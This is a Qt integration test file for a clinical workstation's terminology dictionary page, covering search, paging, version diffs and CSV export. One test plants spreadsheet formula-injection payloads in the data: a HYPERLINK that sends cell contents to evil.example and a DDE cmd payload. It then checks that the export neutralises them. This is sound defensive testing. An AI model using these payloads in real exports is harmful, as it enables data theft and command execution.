// SPDX-FileCopyrightText: 2026 The ClinicLink Workstation authors
// SPDX-License-Identifier: GPL-3.0-or-later

// The Dictionaries area driven as a person would, against an in-process sandbox: find a dictionary
// by name, its passport and versions, scroll the 100,000 records (pages fetched as the view asks),
// download a version and search it as one types (Cyrillic), a server search by attribute, check and
// translate a code, what changed between two versions, and the CSV export.
// Set CLINICLINK_SCREENSHOT_DIR to also get PNGs of what the tests looked at.

#include "../integration/clientfixture.h"
#include "../support/permissionwatch.h"
#include "core/bulk/csvtext.h"
#include "core/terminology/dictionarydownload.h"
#include "core/terminology/terminologycache.h"
#include "tests/support/widgettesting.h"
#include "ui/shell/mainwindow.h"
#include "ui/shell/shellstatusbar.h"
#include "ui/terminology/dictionarypage.h"
#include "ui/terminology/dictionaryrecordmodel.h"
#include "ui/workstationwindow.h"

#include <QComboBox>
#include <QFile>
#include <QLabel>
#include <QLineEdit>
#include <QPushButton>
#include <QScrollBar>
#include <QSignalSpy>
#include <QTabWidget>
#include <QTableView>
#include <QTableWidget>
#include <QToolButton>

using namespace cliniclink;
using namespace cliniclink::testing;

namespace {
const QString kServices = QStringLiteral("1.2.643.2.69.1.1.1.31");
const QString kGenerated = QStringLiteral("1.2.643.2.69.1.1.1.9999");
} // namespace

class TestDictionaryPage : public QObject {
    Q_OBJECT

    std::unique_ptr<ClientFixture> f;
    std::unique_ptr<MainWindow> window;
    DictionaryPage *page = nullptr;

    // The widget, with its tab brought forward as a person would before using it.
    template<class W>
    W *child(const char *name) const
    {
        W *w = page->findChild<W *>(QString::fromLatin1(name));
        auto *tabs = page->findChild<QTabWidget *>();
        for (QWidget *p = w; p && tabs; p = p->parentWidget()) {
            if (tabs->indexOf(p) >= 0) {
                tabs->setCurrentWidget(p);
                break;
            }
        }
        return w;
    }
    void open(const QString &text)
    {
        QSignalSpy versions(page, &DictionaryPage::versionsShown);
        QSignalSpy passport(page, &DictionaryPage::passportShown);
        auto *edit = child<QComboBox>("dictionaryCombo")->lineEdit();
        typeInto(edit, text);
        QTest::keyClick(edit, Qt::Key_Return);
        QTRY_VERIFY_WITH_TIMEOUT(!passport.isEmpty() && versions.size() >= 2, 5000);
    }

private Q_SLOTS:
    void initTestCase() { testing::useDesktopUmask(); }
    void init()
    {
        f = std::make_unique<ClientFixture>(ClientFixture::WithDesks::Yes);
        window = createMainWindow(*f->session, *f->desks);
        window->resize(1280, 760);
        window->show();
        QVERIFY(QTest::qWaitForWindowExposed(window.get()));
        QVERIFY(window->showArea(QStringLiteral("dictionaries")));
        page = qobject_cast<DictionaryPage *>(window->areaPage(QStringLiteral("dictionaries")));
        QVERIFY(page);
        connect(page->recordModel(), &DictionaryRecordModel::pageFailed, this,
                [](const ApiError &e) { qWarning("page failed: %s", qPrintable(e.logText())); });
    }
    void cleanup()
    {
        window.reset();
        f.reset();
    }

    void findByNameShowsPassportAndVersions()
    {
        open(QStringLiteral("лабораторные услуги"));
        QCOMPARE(page->currentOid(), kServices);
        const QString passport = child<QLabel>("passportLabel")->text();
        QVERIFY2(passport.contains(QStringLiteral("Справочник лабораторных услуг")), qPrintable(passport));
        QVERIFY(passport.contains(QStringLiteral("1.2")));
        auto *versions = child<QComboBox>("versionCombo");
        QCOMPARE(versions->count(), 3);
        QCOMPARE(page->currentVersion(), QStringLiteral("1.2"));
        QTRY_COMPARE(page->recordModel()->rowCount(), 8);
        shoot(window.get(), QStringLiteral("dictionaries-passport"));
    }

    void scrollFetchesPages()
    {
        open(kGenerated);
        auto *model = page->recordModel();
        QTRY_COMPARE_WITH_TIMEOUT(model->rowCount(), DictionaryRecordModel::kPageSize, 5000);
        QCOMPARE(model->total(), 100000);
        auto *table = child<QTableView>("recordTable");
        table->scrollToBottom();
        QTRY_VERIFY_WITH_TIMEOUT(model->rowCount() >= 2 * DictionaryRecordModel::kPageSize, 5000);
        QCOMPARE(model->index(DictionaryRecordModel::kPageSize, 0).data().toString(), QStringLiteral("SYN-000501"));
        shoot(window.get(), QStringLiteral("dictionaries-scroll"));
    }

    void downloadThenSearchAsTyped()
    {
        open(kServices);
        QSignalSpy done(page->findChild<DictionaryDownload *>(), &DictionaryDownload::finished);
        QTest::mouseClick(child<QPushButton>("downloadButton"), Qt::LeftButton);
        QVERIFY(f->advanceUntil([&] { return !done.isEmpty(); }, 60));
        QTRY_VERIFY(child<QLabel>("offlineLabel")->text().contains(page->tr("offline")));
        auto *search = child<QLineEdit>("recordSearchEdit");
        typeInto(search, QStringLiteral("КРЕАТ"));
        QCOMPARE(page->recordModel()->rowCount(), 1);
        QCOMPARE(page->recordModel()->index(0, 0).data().toString(), QStringLiteral("A09.05.020"));
        typeInto(search, QStringLiteral("оак"));
        QCOMPARE(page->recordModel()->rowCount(), 1);
        shoot(window.get(), QStringLiteral("dictionaries-search"));

        const QString csv = f->dir.filePath(QStringLiteral("records.csv"));
        testing::PermissionWatch watch(f->dir.path());
        QVERIFY(watch.isValid());
        QVERIFY(page->exportRecords(csv));
        QCOMPARE(QString::number(testing::fileMode(csv), 8), QStringLiteral("600"));
        QCOMPARE(watch.changedAfterWriting(), QStringList());
        QFile file(csv);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QByteArray bytes = file.readAll();
        // Headed by the names a person reads, not the server's.
        const QString header = DictionaryRecordModel::tr("Code") + u';' + DictionaryRecordModel::tr("Name") + u';';
        const QByteArray expected = QByteArray("\xEF\xBB\xBF") + header.toUtf8();
        QVERIFY(bytes.startsWith(expected));
        QVERIFY(QString::fromUtf8(bytes).contains(QStringLiteral("ОАК развернутый")));

        // The older version is read from the server, and the cache knows a newer one exists there.
        auto *versions = child<QComboBox>("versionCombo");
        versions->setCurrentIndex(versions->findData(QStringLiteral("1.0")));
        QVERIFY(child<QLabel>("offlineLabel")->text().contains(page->tr("server")));
    }

    // What a terminology server says reaches Excel as text: a display or an attribute that
    // begins like a formula is written with a leading "'" (issue 27's `=HYPERLINK(...)`).
    void exportedRecordsRunNoFormula()
    {
        const QString oid = QStringLiteral("1.2.643.5.1.13.13.99.2.1");
        TerminologyCache cache;
        QVERIFY2(cache.open(f->dir.filePath(QStringLiteral("hostile-cache.sqlite"))), qPrintable(cache.lastError()));
        CachedVersion v;
        v.oid = oid;
        v.version = QStringLiteral("1");
        QVERIFY(cache.beginVersion(v));
        const QString link = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Открыть\")");
        QVERIFY(cache.storeConcepts(oid, v.version, 0,
                                    {{QStringLiteral("A1"), link, {}},
                                     {QStringLiteral("-2+3+cmd|' /C calc'!A0"), QStringLiteral("\t@SUM(1)"), {}}}));
        QVERIFY(cache.finishVersion(oid, v.version, QDateTime(QDate(2026, 1, 15), QTime(9, 0), Qt::UTC)));
        DictionaryRecordModel model;
        model.showCached(&cache, oid, v.version);
        QCOMPARE(model.rowCount(), 2);
        const CsvTable back = readCsv(model.toCsv());
        QVERIFY2(back.ok(), qPrintable(back.error));
        QCOMPARE(back.rows.size(), 3);
        QCOMPARE(back.rows.at(1).mid(0, 2), (QStringList{QStringLiteral("A1"), u'\'' + link}));
        QCOMPARE(back.rows.at(2).mid(0, 2),
                 (QStringList{QStringLiteral("'-2+3+cmd|' /C calc'!A0"), QStringLiteral("'\t@SUM(1)")}));
    }

    void recordCardHasEveryAttribute()
    {
        open(kServices);
        QTRY_COMPARE(page->recordModel()->rowCount(), 8);
        QSignalSpy card(page, &DictionaryPage::recordCardShown);
        auto *table = child<QTableView>("recordTable");
        const QModelIndex first = page->recordModel()->index(0, 1);
        QTest::mouseClick(table->viewport(), Qt::LeftButton, {}, table->visualRect(first).center());
        QCOMPARE(table->currentIndex().row(), 0);
        QTest::mouseClick(child<QPushButton>("recordCardButton"), Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(!card.isEmpty(), 5000);
        const TermRecord record = card.first().first().value<TermRecord>();
        QCOMPARE(record.code(), page->recordModel()->index(0, 0).data().toString());
        QVERIFY(!record.value(QStringLiteral("nameShort")).isEmpty());
        QVERIFY(!record.value(QStringLiteral("region")).isEmpty());
        auto *cardTable = page->findChild<QTableWidget *>(QStringLiteral("recordCardTable"));
        QVERIFY(cardTable);
        QCOMPARE(cardTable->rowCount(), int(record.attributes.size()));
        shoot(cardTable->window(), QStringLiteral("dictionaries-record-card"));
    }

    void serverSearchByAttribute()
    {
        open(kServices);
        child<QLineEdit>("filterAttributeEdit")->setText(QStringLiteral("nameShort"));
        typeInto(child<QLineEdit>("filterValueEdit"), QStringLiteral("ОАК,ОАМ"));
        QTest::mouseClick(child<QPushButton>("serverSearchButton"), Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(page->recordModel()->rowCount(), 2, 5000);
        QCOMPARE(child<QLabel>("recordCountLabel")->text(), QStringLiteral("Records: 2"));
        // Nothing found says so, in place of an empty table.
        typeInto(child<QLineEdit>("filterValueEdit"), QStringLiteral("no such name"));
        QTest::mouseClick(child<QPushButton>("serverSearchButton"), Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(child<QLabel>("recordCountLabel")->text(), QStringLiteral("Nothing found."), 5000);
        QCOMPARE(page->recordModel()->rowCount(), 0);
        // Several attributes at once: both must match.
        typeInto(child<QLineEdit>("filterValueEdit"), QStringLiteral("nameShort=ОАК,ОАМ; display=мочи"));
        QTest::mouseClick(child<QPushButton>("serverSearchButton"), Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(page->recordModel()->rowCount(), 1, 5000);
        QCOMPARE(page->recordModel()->index(0, 0).data().toString(), QStringLiteral("B03.016.006"));

        // Not held offline: Enter in the search box asks the server by name.
        auto *search = child<QLineEdit>("recordSearchEdit");
        typeInto(search, QStringLiteral("креатин"));
        QTest::keyClick(search, Qt::Key_Return);
        QTRY_COMPARE_WITH_TIMEOUT(page->recordModel()->index(0, 0).data().toString(), QStringLiteral("A09.05.020"),
                                  5000);
        QCOMPARE(page->recordModel()->rowCount(), 1);
    }

    void checkAndTranslate()
    {
        open(QStringLiteral("1.2.643.5.1.13.13.11.1040"));
        QSignalSpy checked(page, &DictionaryPage::checkAnswered);
        QSignalSpy translated(page, &DictionaryPage::translationAnswered);
        typeInto(child<QLineEdit>("checkCodeEdit"), QStringLiteral("1"));
        QTest::mouseClick(child<QPushButton>("checkCodeButton"), Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(!checked.isEmpty(), 5000);
        QVERIFY(child<QLabel>("checkResultLabel")->text().contains(QStringLiteral("1")));
        typeInto(child<QLineEdit>("translateTargetEdit"), QStringLiteral("1.2.643.2.69.1.1.1.39"));
        QTest::mouseClick(child<QPushButton>("translateButton"), Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(!translated.isEmpty(), 5000);
        QVERIFY2(child<QLabel>("translateResultLabel")->text().contains(QStringLiteral("М")),
                 qPrintable(child<QLabel>("translateResultLabel")->text()));
        shoot(window.get(), QStringLiteral("dictionaries-translate"));
        // An unknown target: the server's own words reach the person.
        translated.clear();
        typeInto(child<QLineEdit>("translateTargetEdit"), QStringLiteral("5.5.5"));
        QTest::mouseClick(child<QPushButton>("translateButton"), Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(!translated.isEmpty(), 5000);
        QVERIFY(child<QLabel>("translateResultLabel")->text().contains(QStringLiteral("5.5.5")));
    }

    void changesBetweenVersions()
    {
        open(kServices);
        QSignalSpy shown(page, &DictionaryPage::changesShown);
        auto *from = child<QComboBox>("fromVersionCombo");
        auto *to = child<QComboBox>("toVersionCombo");
        from->setCurrentIndex(from->findData(QStringLiteral("1.0")));
        to->setCurrentIndex(to->findData(QStringLiteral("1.1")));
        QTest::mouseClick(child<QPushButton>("showChangesButton"), Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(!shown.isEmpty(), 5000);
        auto *changes = page->changesModel();
        QCOMPARE(changes->rowCount(), 3);
        QCOMPARE(changes->columnCount(), int(DictionaryRecordModel::ColumnCount));
        QVERIFY(changes->index(0, 0).data(Qt::BackgroundRole).isValid());
        // The export says the change in words, under a header a person reads (Russian in the
        // Russian UI), not the server's `operation` and `create`.
        const CsvTable csv = readCsv(changes->toCsv());
        QVERIFY2(csv.ok(), qPrintable(csv.error));
        const QStringList header = csv.rows.first();
        QCOMPARE(header.mid(0, 2), (QStringList{DictionaryRecordModel::tr("Code"), DictionaryRecordModel::tr("Name")}));
        QCOMPARE(header.last(), DictionaryRecordModel::tr("Change"));
        QVERIFY(!header.contains(QStringLiteral("operation")));
        QVERIFY(!header.contains(QStringLiteral("nameShort")));
        QVERIFY(header.contains(DictionaryRecordModel::tr("Short name")));
        QStringList operations;
        for (const QStringList &row : csv.rows.mid(1))
            operations << row.last();
        QVERIFY2(!operations.contains(QStringLiteral("create")) && !operations.contains(QStringLiteral("update"))
                     && !operations.contains(QStringLiteral("delete")),
                 qPrintable(operations.join(u',')));
        for (const QString &operation : operations) {
            QVERIFY(operation == DictionaryRecordModel::operationText(QStringLiteral("create"))
                    || operation == DictionaryRecordModel::operationText(QStringLiteral("update"))
                    || operation == DictionaryRecordModel::operationText(QStringLiteral("delete")));
        }
        shoot(window.get(), QStringLiteral("dictionaries-changes"));
    }

    // The second version before the first is said beside the versions, and nothing is asked.
    void changesBackwardsAreRefusedBesideTheVersions()
    {
        open(kServices);
        auto *from = child<QComboBox>("fromVersionCombo");
        auto *to = child<QComboBox>("toVersionCombo");
        from->setCurrentIndex(from->findData(QStringLiteral("1.1")));
        to->setCurrentIndex(to->findData(QStringLiteral("1.0")));
        const qsizetype asked = f->arrivals(QStringLiteral("_versions_history")).size();
        QTest::mouseClick(child<QPushButton>("showChangesButton"), Qt::LeftButton);
        auto *problem = child<QLabel>("changesProblemLabel");
        QVERIFY2(problem->text().contains(QStringLiteral("earlier"))
                     || problem->text().contains(QStringLiteral("раньше")),
                 qPrintable(problem->text()));
        QVERIFY(problem->isVisible());
        QVERIFY(f->settle());
        QCOMPARE(f->arrivals(QStringLiteral("_versions_history")).size(), asked);
        // Put right, the changes come and the words go.
        QSignalSpy shown(page, &DictionaryPage::changesShown);
        to->setCurrentIndex(to->findData(QStringLiteral("1.2")));
        QTest::mouseClick(child<QPushButton>("showChangesButton"), Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(!shown.isEmpty(), 5000);
        QVERIFY(problem->text().isEmpty());
    }

    // The list of dictionaries is the service's own ($dictionaries) where it has one: the generated
    // dictionary of the sandbox, which the built-in list does not know, is offered.
    void dictionaryListFromTheService()
    {
        auto *combo = child<QComboBox>("dictionaryCombo");
        QTRY_VERIFY_WITH_TIMEOUT(combo->findData(kGenerated) >= 0, 5000);
    }
    // Without $dictionaries the list is what it was: the cache's and the built-in list.
    void dictionaryListWithoutTheOperation()
    {
        window.reset();
        QJsonObject fixtures = f->emulator->fixtures();
        QJsonObject terminology = fixtures.value(u"terminology").toObject();
        terminology.insert(QStringLiteral("dictionariesOperation"), false);
        fixtures.insert(QStringLiteral("terminology"), terminology);
        f->emulator->setFixtures(fixtures);
        const qsizetype asked = f->arrivals(QStringLiteral("$dictionaries")).size();
        window = createMainWindow(*f->session, *f->desks);
        window->show();
        QVERIFY(window->showArea(QStringLiteral("dictionaries")));
        page = qobject_cast<DictionaryPage *>(window->areaPage(QStringLiteral("dictionaries")));
        QVERIFY(page);
        QTRY_VERIFY_WITH_TIMEOUT(f->arrivals(QStringLiteral("$dictionaries")).size() > asked, 5000);
        QVERIFY(f->settle());
        auto *combo = child<QComboBox>("dictionaryCombo");
        QVERIFY(combo->findData(kServices) >= 0);
        QCOMPARE(combo->findData(kGenerated), -1);
        // "Not offered" is no error: the status bar's last error stays hidden.
        QVERIFY(window->shellStatusBar()->lastErrorButton()->isHidden());
    }

    // Ctrl+End goes to the last of 100,000 records at once, not 500 further each press.
    void ctrlEndGoesToTheLastRecord()
    {
        open(kGenerated);
        auto *model = page->recordModel();
        QTRY_COMPARE_WITH_TIMEOUT(model->rowCount(), DictionaryRecordModel::kPageSize, 5000);
        auto *table = child<QTableView>("recordTable");
        table->setFocus();
        table->setCurrentIndex(model->index(0, 0));
        QTest::keyClick(table, Qt::Key_End, Qt::ControlModifier);
        QTRY_COMPARE_WITH_TIMEOUT(table->currentIndex().row(), 99999, 30000);
        QCOMPARE(model->rowCount(), 100000);
        QCOMPARE(table->currentIndex().siblingAtColumn(0).data().toString(), QStringLiteral("SYN-100000"));
        QVERIFY(!model->canFetchMore({}));
        shoot(window.get(), QStringLiteral("dictionaries-end"));
    }

    // From the offline copy the rest is one read.
    void cachedVersionFetchesToTheEndAtOnce()
    {
        const QString oid = QStringLiteral("1.2.643.5.1.13.13.99.2.2");
        TerminologyCache cache;
        QVERIFY2(cache.open(f->dir.filePath(QStringLiteral("end-cache.sqlite"))), qPrintable(cache.lastError()));
        CachedVersion v;
        v.oid = oid;
        v.version = QStringLiteral("1");
        QVERIFY(cache.beginVersion(v));
        QList<TermConcept> concepts;
        for (int i = 1; i <= 1234; ++i)
            concepts.append(
                {QStringLiteral("C%1").arg(i, 5, 10, QLatin1Char('0')), QStringLiteral("Запись %1").arg(i), {}});
        QVERIFY(cache.storeConcepts(oid, v.version, 0, concepts));
        QVERIFY(cache.finishVersion(oid, v.version, QDateTime(QDate(2026, 1, 15), QTime(9, 0), Qt::UTC)));
        DictionaryRecordModel model;
        model.showCached(&cache, oid, v.version);
        QCOMPARE(model.rowCount(), DictionaryRecordModel::kPageSize);
        QSignalSpy end(&model, &DictionaryRecordModel::reachedEnd);
        model.fetchToEnd();
        QCOMPARE(end.size(), 1);
        QCOMPARE(model.rowCount(), 1234);
        QCOMPARE(model.index(1233, 0).data().toString(), QStringLiteral("C01234"));
    }

    // Another dictionary opened: the changes and the check of the one before are gone.
    void openingAnotherDictionaryClearsTheLastOnesResults()
    {
        open(kServices);
        QSignalSpy shown(page, &DictionaryPage::changesShown);
        auto *from = child<QComboBox>("fromVersionCombo");
        from->setCurrentIndex(from->findData(QStringLiteral("1.0")));
        QTest::mouseClick(child<QPushButton>("showChangesButton"), Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(!shown.isEmpty(), 5000);
        QVERIFY(page->changesModel()->rowCount() > 0);
        QSignalSpy checked(page, &DictionaryPage::checkAnswered);
        typeInto(child<QLineEdit>("checkCodeEdit"), QStringLiteral("A09.05.020"));
        QTest::mouseClick(child<QPushButton>("checkCodeButton"), Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(!checked.isEmpty(), 5000);
        QVERIFY(!child<QLabel>("checkResultLabel")->text().isEmpty());

        open(QStringLiteral("1.2.643.5.1.13.13.11.1040"));
        QCOMPARE(page->changesModel()->rowCount(), 0);
        QVERIFY(child<QLabel>("checkResultLabel")->text().isEmpty());
        QVERIFY(child<QLabel>("translateResultLabel")->text().isEmpty());
    }

    // The passport's status and a record's attributes in words; a name the workstation does not
    // know stays as the server wrote it.
    void statusAndAttributesInWords()
    {
        open(kServices);
        const QString passport = child<QLabel>("passportLabel")->text();
        QVERIFY2(passport.contains(page->tr("Status: %1").arg(DictionaryPage::statusText(QStringLiteral("active")))),
                 qPrintable(passport));
        QVERIFY2(!passport.contains(QStringLiteral("active")), qPrintable(passport));
        QCOMPARE(DictionaryPage::statusText(QStringLiteral("something")), QStringLiteral("something"));
        QCOMPARE(DictionaryRecordModel::attributeLabel(QStringLiteral("SOME_ATTR")), QStringLiteral("SOME_ATTR"));

        QTRY_COMPARE(page->recordModel()->rowCount(), 8);
        QSignalSpy card(page, &DictionaryPage::recordCardShown);
        auto *table = child<QTableView>("recordTable");
        table->setCurrentIndex(page->recordModel()->index(0, 1));
        QTest::mouseClick(child<QPushButton>("recordCardButton"), Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(!card.isEmpty(), 5000);
        auto *cardTable = page->findChild<QTableWidget *>(QStringLiteral("recordCardTable"));
        QVERIFY(cardTable);
        QStringList names;
        for (int r = 0; r < cardTable->rowCount(); ++r)
            names << cardTable->item(r, 0)->text();
        QVERIFY2(!names.contains(QStringLiteral("nameShort")) && !names.contains(QStringLiteral("display")),
                 qPrintable(names.join(u',')));
        QVERIFY(names.contains(DictionaryRecordModel::tr("Short name")));
    }
};

QTEST_MAIN(TestDictionaryPage)
#include "tst_dictionarypage.moc"
